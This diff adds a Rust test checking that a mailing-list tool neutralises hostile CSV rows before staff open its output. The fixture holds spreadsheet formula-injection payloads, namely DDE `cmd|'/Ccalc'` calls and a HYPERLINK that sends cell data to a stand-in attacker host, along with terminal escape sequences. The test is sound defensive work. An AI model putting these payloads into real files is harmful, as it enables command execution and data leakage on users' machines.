@@ -498,3 +498,71 @@ fn the_log_options_may_follow_the_subcommand() {
         "the environment's log untouched"
     );
 }
+
+/// A mailing list's rows come from wherever the clinic collected them (a web form, another
+/// system's export), so an attacker may have written one. The flagged list goes back to staff,
+/// who open it in a spreadsheet or read it in a terminal: no cell of it may be a formula the
+/// spreadsheet runs (`=`, `+`, `-`, `@` first), and no control character may reach the
+/// terminal (an escape sequence retitles the window, rewrites the lines above, or worse).
+/// A phone number written with its `+` stays as written: it is no formula.
+#[test]
+fn a_hostile_list_row_is_neither_a_formula_nor_a_terminal_escape() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let d = dir.path();
+    assert!(record(d, "yes@example.fi", "consent", &[]).status.success());
+    let list = d.join("list.csv");
+    std::fs::write(
+        &list,
+        "email\n\
+         =cmd|'/Ccalc'!A0@evil.fi\n\
+         \"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"\n\
+         @SUM(1+1)*cmd|'/Ccalc'!A0\n\
+         -2+3+cmd|'/Ccalc'!A0\n\
+         \"evil\x1b]2;pwned\x07@\x1b[2Jx.fi\"\n\
+         +358 40 123 4567\n",
+    )
+    .expect("write");
+    let o = consent(d, &["market", "bulk", list.to_str().expect("utf-8")]);
+    assert_eq!(o.status.code(), Some(1), "malformed rows fail the command");
+    let csv = out(&o);
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let addresses: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("a CSV row")[1].to_owned())
+        .collect();
+    assert_eq!(
+        addresses,
+        [
+            "'=cmd|'/Ccalc'!A0@evil.fi",
+            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+            "'@SUM(1+1)*cmd|'/Ccalc'!A0",
+            "'-2+3+cmd|'/Ccalc'!A0",
+            "evil\u{fffd}]2;pwned\u{fffd}@\u{fffd}[2Jx.fi",
+            "+358 40 123 4567",
+        ],
+        "{csv}"
+    );
+    for (what, text) in [("output", csv), ("messages", err(&o))] {
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "a control character in the {what}: {text:?}"
+        );
+    }
+
+    // A header row naming no address column is echoed in the error: printable there too.
+    std::fs::write(&list, "name,\x1b]2;pwned\x07\nA,a@b.fi\n").expect("write");
+    let o = consent(
+        d,
+        &[
+            "market",
+            "bulk",
+            list.to_str().expect("utf-8"),
+            "--column",
+            "email",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    let e = err(&o);
+    assert!(e.contains("no column \"email\""), "{e}");
+    assert!(!e.chars().any(|c| c.is_control() && c != '\n'), "{e:?}");
+}
